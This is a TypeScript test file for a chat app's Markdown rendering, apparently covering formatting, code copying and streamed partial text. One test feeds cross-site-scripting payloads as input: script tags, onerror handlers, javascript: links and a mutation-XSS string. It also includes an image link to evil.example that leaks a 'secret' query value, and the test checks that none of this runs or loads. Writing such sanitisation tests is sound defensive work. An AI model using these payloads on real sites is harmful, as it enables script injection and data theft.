import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ask, joinAndOpen, newestAnswer, visit, waitForText } from './visitor.ts';

const sample = `# 제목

**스토브리그(2019)**는 드라마예요. **「太字」**です。
둘째 줄이에요.

- 하나
  - 안쪽
- [x] 끝난 일

1. 첫째
2. 둘째

> 인용

| 이름 | 값 |
| --- | --- |
| 가 | 1 |

\`\`\`ts
const answer: number = 42;
\`\`\`

\`짧은 코드\`와 https://example.com/path를 보세요.`;

test('an answer in Markdown is shown as one, and its code can be copied', async (t) => {
  const visitor = await visit(t, { browser: { permissions: ['clipboard-read', 'clipboard-write'] } });
  const { page, upstream } = visitor;
  await joinAndOpen(visitor);
  upstream.script({ name: 'normal', text: sample });
  await ask(page, '보여 주세요');
  await page.getByText('영수증').waitFor();
  const answer = newestAnswer(page);
  await answer.getByRole('heading', { name: '제목' }).waitFor();
  const bold = answer.locator('strong');
  await bold.nth(1).waitFor();
  assert.deepEqual(await bold.allTextContents(), ['스토브리그(2019)', '「太字」']);
  assert.equal(await answer.getByRole('listitem').count(), 5);
  await answer.getByRole('img', { name: '했어요' }).waitFor();
  await answer.getByRole('table').getByRole('cell', { name: '가' }).waitFor();
  const link = answer.getByRole('link', { name: 'https://example.com/path' });
  assert.deepEqual(
    [await link.textContent(), await link.getAttribute('rel'), await link.getAttribute('target')],
    ['https://example.com/path', 'noopener noreferrer nofollow', '_blank'],
  );
  await answer.locator('.hljs-keyword').filter({ hasText: 'const' }).waitFor();
  await answer.getByRole('button', { name: '복사' }).click();
  await answer.getByRole('button', { name: '복사했어요' }).waitFor();
  assert.equal(await page.evaluate('navigator.clipboard.readText()'), 'const answer: number = 42;\n');
});

test('what a model writes runs nothing, loads nothing and leads nowhere unsafe', async (t) => {
  const visitor = await visit(t);
  const { page, server, upstream } = visitor;
  await joinAndOpen(visitor);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url)) foreign.push(request.url());
  });
  const text = [
    '<script>document.title = "run"</script>',
    '<img src=x onerror="document.title = \'run\'">',
    '<svg onload="document.title = \'run\'"></svg>',
    '<iframe srcdoc="<script>top.document.title = 1</script>"></iframe>',
    '<math><mtext><table><mglyph><style><img src onerror="document.title = \'run\'">',
    '[script](javascript:document.title="run") [data](data:text/html,run) [inside](/withdraw) [proto](//evil.example)',
    '[spaced](java\tscript:alert(1)) [coded](&#106;avascript:alert(1))',
    '![그림](https://evil.example/pixel?q=secret)',
    '[좋은 곳](https://example.com) [편지](mailto:a@example.com)',
  ].join('\n\n');
  upstream.script({ name: 'normal', text });
  await ask(page, '보여 주세요');
  await page.getByText('영수증').waitFor();
  const answer = newestAnswer(page);
  await answer.getByRole('link', { name: '편지' }).waitFor();
  assert.equal(await answer.locator('script, img, iframe, math, style, object, embed').count(), 0);
  const addresses = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  assert.deepEqual(addresses, [
    'https://evil.example/pixel?q=secret',
    'https://example.com',
    'mailto:a@example.com',
  ]);
  await answer.getByText('<script>document.title = "run"</script>').waitFor();
  assert.doesNotMatch(await page.title(), /run/);
  assert.deepEqual(foreign, []);
});

test('while it is written, what is open is shown as if it were closed', async (t) => {
  const visitor = await visit(t);
  const { page, upstream } = visitor;
  await joinAndOpen(visitor);
  upstream.script('slow');
  await ask(page, '천천히');
  const call = await upstream.nextCall();
  call.send('앞 문단\n\n뒤 **굵은');
  await waitForText(page, '굵은');
  const answer = newestAnswer(page);
  await answer.locator('strong').filter({ hasText: '굵은' }).waitFor();
  call.send(' 글**과 [링크](https://exam');
  await waitForText(page, '링크');
  await answer.locator('strong').filter({ hasText: '굵은 글' }).waitFor();
  assert.equal(await answer.getByRole('link').count(), 0);
  call.send('ple.com)\n\n```py\nprint(1)');
  await answer.getByRole('link', { name: '링크' }).waitFor();
  await answer.locator('pre').filter({ hasText: 'print(1)' }).waitFor();
  assert.equal(await answer.locator('.hljs-built_in').count(), 0);
  call.send('\n```\n');
  call.finish();
  await answer.locator('.hljs-built_in').waitFor();
});
